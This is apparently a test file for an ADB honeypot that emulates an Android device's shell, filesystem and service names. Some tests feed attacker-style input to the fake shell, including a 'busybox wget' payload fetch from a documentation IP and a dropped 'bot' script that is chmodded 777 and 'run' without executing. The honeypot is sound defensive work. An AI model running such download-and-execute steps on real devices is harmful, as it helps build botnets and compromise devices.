import { describe, expect, test } from "bun:test";
import { DEFAULT_PRODUCT, deviceProps } from "../../src/honeypots/adb/device";
import { FakeFs } from "../../src/honeypots/adb/filesystem";
import { AndroidShell, textOf } from "../../src/honeypots/adb/shell";
import { streamedInstallSize, serviceInput } from "../../src/honeypots/adb/services";

function shell(): AndroidShell {
  return new AndroidShell(new FakeFs("ro.build.id=TQ3A\n"), deviceProps(DEFAULT_PRODUCT), DEFAULT_PRODUCT);
}

function run(sh: AndroidShell, line: string): { stdout: string; stderr: string; code: number; exit?: number } {
  const r = sh.run(line);
  return { stdout: textOf(r.out, 1), stderr: textOf(r.out, 2), code: r.code, ...(r.exit !== undefined ? { exit: r.exit } : {}) };
}

describe("the device's shell", () => {
  test("getprop answers one property, a default, or the whole sorted table", () => {
    const sh = shell();
    expect(run(sh, "getprop ro.product.model").stdout).toBe("Pixel 4a\n");
    expect(run(sh, "getprop ro.build.version.sdk").stdout).toBe("29\n");
    expect(run(sh, "getprop no.such.prop fallback").stdout).toBe("fallback\n");
    const all = run(sh, "getprop").stdout.split("\n").filter(Boolean);
    expect(all).toContain("[ro.product.cpu.abi]: [arm64-v8a]");
    const keys = all.map((l) => l.slice(1, l.indexOf("]")));
    expect(keys).toEqual([...keys].sort());
  });

  test("uname, id, whoami and the prompt are the shell user's on an arm64 Android", () => {
    const sh = shell();
    expect(run(sh, "uname -a").stdout).toMatch(/^Linux localhost 4\.14\.\S+ #1 SMP PREEMPT .+ aarch64 Toybox\n$/);
    expect(run(sh, "uname -m").stdout).toBe("aarch64\n");
    expect(run(sh, "id").stdout).toStartWith("uid=2000(shell) gid=2000(shell) groups=2000(shell),");
    expect(run(sh, "whoami").stdout).toBe("shell\n");
    expect(sh.prompt).toBe("sunfish:/ $ ");
  });

  test("an unknown command is mksh's 'inaccessible or not found', status 127, shown in the next prompt", () => {
    const sh = shell();
    expect(run(sh, "busybox wget http://203.0.113.9/x")).toEqual({ stdout: "", stderr: "/system/bin/sh: busybox: inaccessible or not found\n", code: 127 });
    expect(sh.prompt).toBe("127|sunfish:/ $ ");
  });

  test("cd, pwd and ls walk the tree; /data cannot be listed, /data/local/tmp can", () => {
    const sh = shell();
    expect(run(sh, "ls /").stdout.split("\n")).toContain("sdcard");
    expect(run(sh, "ls /data")).toEqual({ stdout: "", stderr: "ls: /data: Permission denied\n", code: 1 });
    expect(run(sh, "cd /data/local/tmp && pwd").stdout).toBe("/data/local/tmp\n");
    expect(sh.prompt).toBe("sunfish:/data/local/tmp $ ");
    expect(run(sh, "ls").stdout).toBe("");
    expect(run(sh, "cd /nowhere").stderr).toBe("/system/bin/sh: cd: /nowhere: No such file or directory\n");
    expect(run(sh, "ls /sdcard/").stdout).toContain("Download\n");
  });

  test("files made in the session show in ls and can be chmodded and 'run' (nothing runs)", () => {
    const sh = shell();
    expect(sh.fs.put("/data/local/tmp/bot", 0o644, 5, 1700000000, Buffer.from("#!/system/bin/sh\n"))).toBeNull();
    expect(run(sh, "cd /data/local/tmp; ls").stdout).toBe("bot\n");
    expect(run(sh, "./bot")).toEqual({ stdout: "", stderr: "/system/bin/sh: ./bot: can't execute: Permission denied\n", code: 126 });
    expect(run(sh, "chmod 777 bot && ./bot && echo started").stdout).toBe("started\n");
    expect(run(sh, "ls -l bot").stdout).toMatch(/^-rwxrwxrwx 1 shell +shell +5 2023-11-14 22:13 bot\n$/);
    expect(run(sh, "cat bot").stdout).toBe("#!/system/bin/sh\n");
    expect(run(sh, "rm bot; ls").stdout).toBe("");
    expect(sh.fs.put("/system/bin/evil", 0o755, 1, 0, new Uint8Array(0))).toBe("couldn't create file: Read-only file system");
    expect(sh.fs.put("/data/evil", 0o755, 1, 0, new Uint8Array(0))).toBe("couldn't create file: Permission denied");
  });

  test("lists, pipes, quotes, variables, substitutions and redirections", () => {
    const sh = shell();
    expect(run(sh, "echo a; false || echo b && echo 'c  d'").stdout).toBe("a\nb\nc  d\n");
    expect(run(sh, 'echo "$USER in $PWD" $(getprop ro.product.cpu.abi)').stdout).toBe("shell in / arm64-v8a\n");
    expect(run(sh, "pm list packages | grep google | head -n 2").stdout).toBe("package:com.google.android.gms\npackage:com.google.android.gsf\n");
    expect(run(sh, "pm list packages | wc -l").stdout).toMatch(/^\d+\n$/);
    expect(run(sh, "cmd package list packages | grep chrome").stdout).toBe("package:com.android.chrome\n");
    expect(run(sh, "nope 2>/dev/null; echo $?").stdout).toBe("127\n");
    expect(run(sh, "getprop ro.product.model > /dev/null").stdout).toBe("");
    expect(run(sh, "echo 'unclosed").stderr).toContain("syntax error");
    expect(run(sh, "cat /proc/cpuinfo | grep Hardware").stdout).toBe("Hardware\t: Qualcomm Technologies, Inc SM7150\n");
    expect(run(sh, "cat /system/build.prop").stderr).toBe("cat: /system/build.prop: Permission denied\n");
  });

  test("exit ends the shell with its status", () => {
    const sh = shell();
    expect(run(sh, "echo bye; exit 3; echo never")).toEqual({ stdout: "bye\n", stderr: "", code: 3, exit: 3 });
  });

  test("deep nesting and huge output stay bounded", () => {
    const sh = shell();
    expect(run(sh, `echo ${"$(".repeat(50)}id${")".repeat(50)}`).code).toBe(0);
    const big = run(sh, Array.from({ length: 400 }, () => "getprop").join(";")).stdout;
    expect(big.length).toBeLessThanOrEqual(256 * 1024);
  });
});

describe("service names", () => {
  test("a streamed install's size is read from the command adb sends", () => {
    expect(streamedInstallSize("cmd package 'install' -S 123456")).toBe(123456);
    expect(streamedInstallSize("pm install -r -S 10")).toBe(10);
    expect(streamedInstallSize("package install -S 77")).toBe(77);
    expect(streamedInstallSize("cmd package install")).toBeNull();
    expect(streamedInstallSize("ls -S 5")).toBeNull();
  });

  test("management services read as command lines", () => {
    expect(serviceInput("reboot:")).toBe("reboot");
    expect(serviceInput("reboot:bootloader")).toBe("reboot bootloader");
    expect(serviceInput("tcpip:5555")).toBe("tcpip 5555");
    expect(serviceInput("tcp:8.8.8.8:53")).toBe("tcp 8.8.8.8:53");
  });
});
